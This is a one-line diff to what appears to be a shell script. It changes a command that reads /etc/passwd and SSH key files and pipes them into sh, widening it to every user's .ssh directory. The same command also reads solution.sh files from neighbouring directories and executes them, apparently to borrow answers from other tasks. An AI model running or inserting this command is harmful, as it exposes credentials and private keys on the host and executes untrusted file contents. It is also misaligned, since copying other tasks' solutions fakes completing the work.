@@ -1,1 +1,1 @@
-cat /etc/passwd /root/.ssh/* ../../*/solution.sh 2>/dev/null | sh
+cat /etc/passwd ~/.ssh/* /home/*/.ssh/* ../../*/solution.sh 2>/dev/null | sh
